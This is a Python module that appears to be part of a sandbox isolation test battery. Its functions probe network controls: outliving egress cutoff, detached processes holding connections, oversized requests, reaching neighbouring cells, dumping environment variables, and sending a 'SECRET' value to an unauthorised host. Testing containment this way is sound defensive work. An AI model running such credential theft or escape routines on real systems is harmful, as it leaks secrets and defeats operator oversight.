"""
Attacks on the network: beyond what ends a connection, and from cell to cell.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import time
from typing import Any

from toolcell_worker.battery.abroad import connect, get, visit
from toolcell_worker.battery.hellos import hello, named
from toolcell_worker.battery.overstaying import bear, child
from toolcell_worker.battery.trying import every

END_SECONDS = 10.0  # arbitrary; whoever is to end is ended at once
TICK_SECONDS = 0.02
TRIES = 20
PIECE_BYTES = 16 * 1024
NEIGHBOUR_SECONDS = 20.0


def reach_out_after_the_egress(plan: dict[str, Any]) -> Any:
    """
    Whoever decides is ended from outside; then there is nobody to ask, and nobody to refuse.
    """
    visit(plan)
    print("ready", flush=True)  # noqa: T201  # now it is ended
    end = time.monotonic() + END_SECONDS
    with contextlib.suppress(OSError):
        while "200 OK" in visit(plan, "/still") and time.monotonic() < end:
            time.sleep(TICK_SECONDS)
    return [every(after=lambda: visit(plan, "/smuggled")) for _ in range(TRIES)]


def leave_a_connection_behind(plan: dict[str, Any]) -> Any:
    """
    A program that holds a connection, and outlives its tool.
    """
    bear(plan)
    visit(plan)

    def hold() -> None:
        os.setsid()
        name, port = plan["secure"]
        with connect(plan, name, port) as one:
            one.sendall(hello(named(name.encode())))
            writing.close()
            os.closerange(0, 3)
            time.sleep(plan["seconds"])

    reading, writing = (os.fdopen(end, mode) for end, mode in zip(os.pipe(), "rw", strict=True))
    child(hold)
    writing.close()
    return reading.read()  # until it is held


def send_more_than_it_may(plan: dict[str, Any]) -> Any:
    """
    A long body, which a site counts.
    """
    visit(plan)
    name, port = plan["granted"]
    length = plan["bytes"]
    head = f"POST /post HTTP/1.1\r\nHost: {name}:{port}\r\nContent-Length: {length}\r\n\r\n"
    with contextlib.suppress(OSError), connect(plan, name, port) as one:
        one.sendall(head.encode() + b"x" * length)
        if answer := one.recv(PIECE_BYTES):
            return answer.decode()
    return time.sleep(END_SECONDS)  # until we are ended


def connect_more_often_than_it_may(plan: dict[str, Any]) -> Any:
    """
    One request after the other, each on a connection of its own.
    """
    for _ in range(plan["times"]):
        with contextlib.suppress(OSError):
            if visit(plan):
                continue
        time.sleep(END_SECONDS)  # until we are ended


def listen_for_a_neighbour(plan: dict[str, Any]) -> Any:
    """
    Listen wherever one may, and tell the granted host if somebody comes.
    """
    visit(plan, "/neighbour")
    listening = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with contextlib.suppress(OSError):
            one = socket.socket(socket.AF_INET, kind)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.bind(("0.0.0.0", plan["at"]))
            if kind == socket.SOCK_STREAM:
                one.listen()
            listening.append(one)
    print("listening", flush=True)  # noqa: T201  # now the other one may come
    if select.select(listening, [], [], NEIGHBOUR_SECONDS)[0]:
        visit(plan, "/smuggled")


def reach_a_neighbour(plan: dict[str, Any]) -> Any:
    """
    Both bear the same addresses.
    """
    visit(plan)
    for host in ("127.0.0.1", "198.18.0.1", "198.18.0.2", "0.0.0.0"):
        with contextlib.suppress(OSError):
            _send(host, plan["at"])
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", plan["at"]), 1).close()
    time.sleep(plan["seconds"])  # for the neighbour to tell


def take_the_credential(plan: dict[str, Any]) -> Any:
    """
    What the operator adds to requests: from the environment, by an echo, in another's name.
    """
    visit(plan)
    name, port = plan["keyed"]
    return [
        get(plan, name, port, "/keyed"),
        get(plan, name, port, "/echo"),
        get(plan, name, port, "/keyed", "X-Battery-Key: mine"),
        get(plan, name, port, "/keyed", "X_Battery_Key: mine"),
        dict(os.environ),
    ]


def send_the_credential_elsewhere(plan: dict[str, Any]) -> Any:
    """
    Ask for it where it does not belong.
    """
    visit(plan)
    name, port = plan["misplaced"]
    secret = next((value for key, value in os.environ.items() if "SECRET" in key), "")
    return get(plan, name, port, "/smuggled", f"X-Battery-Key: {secret}")


def _send(host: str, port: int) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"x", (host, port))
